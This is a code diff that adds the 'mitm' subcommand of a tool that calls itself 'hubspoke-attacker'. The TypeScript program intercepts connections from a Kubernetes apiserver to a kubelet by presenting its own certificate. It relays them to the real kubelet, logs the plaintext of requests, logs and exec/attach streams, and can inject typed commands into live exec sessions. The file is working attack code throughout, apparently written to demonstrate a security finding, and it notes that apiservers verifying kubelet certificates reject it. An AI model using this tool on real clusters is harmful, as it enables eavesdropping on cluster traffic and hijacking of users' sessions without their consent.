@@ -1,0 +1,140 @@
+// `hubspoke-attacker mitm`: the man in the middle of C9 as a process. It listens where the apiserver thinks a
+// kubelet is, shows its own certificate, relays to the real kubelet and prints what it reads as it reads it:
+// requests, log text, exec and attach streams by channel. With --output every connection is saved as a JSON
+// line when it ends (and at exit); with --inject-stdin each line typed into this process is written into the
+// newest live exec/attach session as if the user had typed it. Runs until SIGINT or SIGTERM, then exits 0.
+import { appendFile, readFile } from 'node:fs/promises';
+import { createInterface } from 'node:readline';
+import { Command } from 'commander';
+import { pino } from 'pino';
+import type { Capture, CapturedExchange, StreamMessage } from '../mitm/capture.ts';
+import { Channel } from '../mitm/channel-message.ts';
+import { startMitm } from '../mitm/mitm.ts';
+import { hostPort, ipAddress } from './flag-values.ts';
+
+interface MitmFlags {
+  listen: { host: string; port: number };
+  upstream: { host: string; port: number };
+  sourceAddress?: string;
+  tlsCertFile?: string;
+  tlsPrivateKeyFile?: string;
+  output?: string;
+  injectStdin?: boolean;
+  logLevel: string;
+}
+
+const CHANNEL_NAMES: Record<number, string> = { [Channel.stdin]: 'stdin', [Channel.stdout]: 'stdout', [Channel.stderr]: 'stderr', [Channel.error]: 'error', [Channel.resize]: 'resize' };
+
+/** Adds the `mitm` subcommand to `program`; returns the subcommand. */
+export function addMitmCommand(program: Command): Command {
+  return program
+    .command('mitm')
+    .description(
+      "Stand where the apiserver dials a kubelet (a poisoned node address, or a router answering for it), show the attacker's own certificate, relay to the real kubelet and read everything. An apiserver with --kubelet-certificate-authority hangs up instead.",
+    )
+    .requiredOption('--listen <host:port>', 'where to accept the apiserver (the address the node advertises, and the kubelet port)', hostPort)
+    .requiredOption('--upstream <host:port>', 'the real kubelet', hostPort)
+    .option('--source-address <ip>', 'source address for the connections to the real kubelet (one that routing sends on to the node)', ipAddress)
+    .option('--tls-cert-file <file>', 'certificate shown to the apiserver (default: a fresh self-signed one for the --listen host)')
+    .option('--tls-private-key-file <file>', 'key of --tls-cert-file')
+    .option('--output <file>', 'append every connection, in plaintext, to this file as a JSON line')
+    .option('--inject-stdin', 'write each line typed here into the newest live exec/attach session')
+    .option('--log-level <level>', "pino level of the attacker's own logs (stderr)", 'warn')
+    .action(async (flags: MitmFlags, command: Command) => {
+      if (Boolean(flags.tlsCertFile) !== Boolean(flags.tlsPrivateKeyFile)) command.error('error: --tls-cert-file and --tls-private-key-file go together');
+      const read = (file: string, flag: string): Promise<string> =>
+        readFile(file, 'utf8').catch((err: Error) => command.error(`error: cannot read ${flag} ${file}: ${err.message}`));
+      const certificate = flags.tlsCertFile
+        ? { cert: await read(flags.tlsCertFile, '--tls-cert-file'), key: await read(flags.tlsPrivateKeyFile!, '--tls-private-key-file') }
+        : undefined;
+      const logger = pino({ level: flags.logLevel }, pino.destination(2));
+      const mitm = await startMitm({
+        listen: flags.listen,
+        upstream: { ...flags.upstream, localAddress: flags.sourceAddress },
+        certificate,
+        logger,
+      }).catch((err: NodeJS.ErrnoException) => command.error(`error: cannot listen on ${flags.listen.host}:${flags.listen.port} (${err.code ?? err.message}); change --listen`));
+
+      const printer = new CapturePrinter((text) => process.stdout.write(text));
+      let saving = Promise.resolve();
+      const saved = new Set<number>();
+      const save = (capture: Capture): void => {
+        if (!flags.output || saved.has(capture.id)) return;
+        saved.add(capture.id);
+        const line = `${JSON.stringify(captureRecord(capture))}\n`;
+        saving = saving.then(() => appendFile(flags.output!, line)).catch((err: Error) => logger.error({ err: err.message }, 'cannot save a capture'));
+      };
+      const refresh = (): void => {
+        for (const capture of mitm.captures()) {
+          printer.print(capture);
+          if (capture.closed) save(capture);
+        }
+        for (const failure of mitm.failures().slice(printer.failuresShown)) {
+          process.stdout.write(`[refused] ${failure.client}: the apiserver ${failure.kind === 'tls-error' ? 'failed the handshake' : 'hung up after the handshake'} (${failure.reason}): it verifies kubelets\n`);
+          printer.failuresShown++;
+        }
+      };
+      const timer = setInterval(refresh, 200);
+      if (flags.injectStdin) {
+        createInterface({ input: process.stdin }).on('line', (line) => {
+          const result = mitm.injectStdin(`${line}\n`);
+          process.stdout.write(result.kind === 'injected' ? `[injected into capture ${result.captureId}${result.queued ? ', after the current frame' : ''}] ${line}\n` : '[no live exec/attach session to inject into]\n');
+        });
+      }
+      process.stdout.write(`intercepting on ${mitm.address}:${mitm.port}, relaying to ${flags.upstream.host}:${flags.upstream.port}\n`);
+      await new Promise<void>((resolve) => {
+        process.once('SIGINT', resolve);
+        process.once('SIGTERM', resolve);
+      });
+      clearInterval(timer);
+      refresh();
+      for (const capture of mitm.captures()) save(capture);
+      await mitm.close();
+      await saving;
+      process.exit(0);
+    });
+}
+
+/** Prints what is new in each capture since the last call, so a person watches the plaintext arrive. */
+class CapturePrinter {
+  failuresShown = 0;
+  private readonly shown = new Map<number, { exchanges: number; responded: Set<number>; messages: number }>();
+
+  constructor(private readonly write: (text: string) => void) {}
+
+  print(capture: Capture): void {
+    const seen = this.shown.get(capture.id) ?? { exchanges: 0, responded: new Set<number>(), messages: 0 };
+    this.shown.set(capture.id, seen);
+    capture.exchanges.forEach((x, i) => {
+      if (i >= seen.exchanges) this.write(`[capture ${capture.id}] ${capture.client} → ${x.request.method} ${x.request.target}\n`);
+      if (x.response && !seen.responded.has(i)) {
+        seen.responded.add(i);
+        this.write(`[capture ${capture.id}] ← ${x.response.status} ${x.response.reason ?? ''}${x.stream ? ` (${x.stream.subprotocol ?? x.stream.protocol})` : ''}\n`);
+        if (x.response.body) this.write(indent(x.response.body));
+      }
+    });
+    seen.exchanges = capture.exchanges.length;
+    const messages = capture.exchanges.at(-1)?.stream?.messages ?? [];
+    for (const m of messages.slice(seen.messages)) {
+      const text = m.data.toString('utf8');
+      if (m.channel === undefined || !text) continue;
+      this.write(`[capture ${capture.id}] ${CHANNEL_NAMES[m.channel] ?? `channel ${m.channel}`}${m.injected ? ' (injected)' : ''}> ${text.endsWith('\n') ? text : `${text}\n`}`);
+    }
+    seen.messages = messages.length;
+  }
+}
+
+function indent(text: string): string {
+  return text.split('\n').filter(Boolean).map((l) => `    ${l}\n`).join('');
+}
+
+/** A capture as JSON: streams as text per message, so the file is readable. */
+function captureRecord(capture: Capture): Record<string, unknown> {
+  const message = (m: StreamMessage) => ({ direction: m.direction, channel: m.channel, text: m.data.toString('utf8'), ...(m.injected ? { injected: true } : {}) });
+  const exchange = (x: CapturedExchange) => ({
+    request: { method: x.request.method, target: x.request.target, headers: x.request.headers, body: x.request.body },
+    response: x.response && { status: x.response.status, headers: x.response.headers, body: x.response.body },
+    stream: x.stream && { protocol: x.stream.protocol, subprotocol: x.stream.subprotocol, messages: x.stream.messages.map(message) },
+  });
+  return { id: capture.id, client: capture.client, opened: capture.opened, closed: capture.closed, exchanges: capture.exchanges.map(exchange) };
+}
